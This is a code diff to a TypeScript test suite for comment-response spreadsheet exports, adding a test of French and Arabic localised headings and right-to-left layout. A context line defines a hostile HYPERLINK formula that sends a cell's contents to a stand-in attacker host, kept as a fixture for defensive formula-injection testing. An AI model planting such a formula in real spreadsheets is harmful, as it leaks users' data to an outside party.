@@ -52,8 +52,8 @@ describe('comment-response downloads', () => {
   const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
   const MULTILINE = 'Two points:\n1. the source, "LFS 2023";\n2. the definition, naïve or not.';
 
-  const download = (path: string, token?: string) =>
-    fetch(`${t.baseUrl}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
+  const download = (path: string, token?: string, headers: Record<string, string> = {}) =>
+    fetch(`${t.baseUrl}${path}`, { headers: { ...headers, ...(token ? { authorization: `Bearer ${token}` } : {}) } });
 
   beforeAll(async () => {
     t = await startTestApp();
@@ -152,6 +152,27 @@ describe('comment-response downloads', () => {
     const formulas: string[] = [];
     sheet.eachRow((row) => row.eachCell((cell) => void (cell.formula ? formulas.push(cell.address) : null)));
     expect(formulas).toEqual([]);
+  });
+
+  it('writes the headings and its own words in the language asked for; comments, names and titles as written', async () => {
+    const csv = await download(`/exports/review-cycles/${cycleId}/responses.csv?lang=fr`, w.tokens.coordinator);
+    const rows = parseCsv(Buffer.from(await csv.arrayBuffer()).subarray(3).toString('utf8'));
+    expect(rows[0]).toEqual([
+      'N°', 'Section', 'Organisation', 'Auteur', 'Passage', 'Commentaire', 'Formulation proposée', 'Suite de la proposition', 'Suite donnée', 'Motif',
+      'Révision ayant repris la proposition', 'Résolu',
+    ]);
+    expect(rows[1]!.slice(7, 9)).toEqual(['Appliquée', 'Accepté']);
+    expect(rows[1]![11]).toBe('Non');
+    expect(rows[1]![3]).toBe('Zoë Dupré');
+    expect(rows[2]![4]).toBe('(texte supprimé) Old claim about returns.');
+    // Arabic by Accept-Language: the sheet runs right to left.
+    const xlsx = await download(`/exports/review-cycles/${cycleId}/responses.xlsx`, w.tokens.focal, { 'accept-language': 'ar' });
+    const workbook = new Workbook();
+    await workbook.xlsx.load(await xlsx.arrayBuffer());
+    const sheet = workbook.worksheets[0]!;
+    expect(sheet.name).toBe('الردود على التعليقات');
+    expect((sheet.getRow(1).values as unknown[]).slice(1, 4)).toEqual(['الرقم', 'القسم', 'المنظمة']);
+    expect(sheet.views[0]).toMatchObject({ rightToLeft: true });
   });
 
   it('answers 401 without a session, 404 for an unknown or unreadable cycle, 403 to contributors and observers', async () => {
